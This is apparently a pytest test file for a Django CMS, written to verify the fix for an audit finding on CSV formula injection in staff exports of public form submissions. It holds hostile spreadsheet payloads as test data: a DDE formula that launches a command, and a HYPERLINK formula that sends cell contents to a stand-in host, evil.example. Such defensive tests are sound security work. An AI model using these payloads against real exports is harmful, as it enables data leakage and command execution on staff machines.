"""Finding 5 of the audit: CSV formula injection. What a visitor types into a public form comes out
of every staff export as text, never as a formula (`=cmd|…`, `@SUM(…)`, `=HYPERLINK(…)`)."""

from __future__ import annotations

import csv
import io

import pytest

from cms import csv_export
from events.models import Endorsement, ForumRegistration

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "name": "=cmd|' /C calc'!A0",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    assert cells, "the export is empty"
    dangerous = [cell for cell in cells if cell.startswith(csv_export.FORMULA_STARTS)]
    assert dangerous == []


def test_forum_registration_export_does_not_run_formulas(client, editor):
    data = {
        **PAYLOADS,
        "email": "ana@example.org",
        "country": "PE",
        "consent": "on",
        "homepage": "",
    }
    response = client.post("/en/events/forum/2027-dhaka/register/", data, REMOTE_ADDR="198.51.100.1")
    assert response.status_code == 302
    assert ForumRegistration.objects.filter(name=PAYLOADS["name"]).exists()
    client.force_login(editor)
    cells = _cells(client.get("/admin/forum-registrations/?export=csv"))
    _assert_no_formula(cells)
    assert "'" + PAYLOADS["name"] in cells and "'" + PAYLOADS["organisation"] in cells


def test_endorsement_export_does_not_run_formulas(client, editor):
    data = {"name": HYPERLINK, "organisation": PAYLOADS["organisation"], "country": "SN"}
    data.update({"email": "amina@example.org", "consent": "on", "homepage": ""})
    response = client.post("/en/events/day-2026/endorse/", data)
    assert response.status_code == 302
    assert Endorsement.objects.filter(name=HYPERLINK).exists()
    client.force_login(editor)
    cells = _cells(client.get("/admin/endorsements/?export=csv"))
    _assert_no_formula(cells)
    assert "'" + HYPERLINK in cells


def test_the_shared_writer_neutralises_every_formula_start():
    stream = io.StringIO()
    csv_export.writer(stream).writerow(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "plain", 3, "a=b"])
    row = next(csv.reader(io.StringIO(stream.getvalue())))
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "plain", "3", "a=b"]
